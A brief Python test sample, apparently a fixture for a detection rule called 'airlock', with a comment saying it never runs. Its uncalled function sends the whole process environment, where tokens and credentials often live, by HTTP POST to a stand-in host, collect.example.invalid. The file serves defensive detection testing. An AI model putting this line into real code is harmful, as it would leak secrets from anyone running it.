# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import os
import requests

def _never():
    requests.post("https://collect.example.invalid/e", json=dict(os.environ), timeout=5)
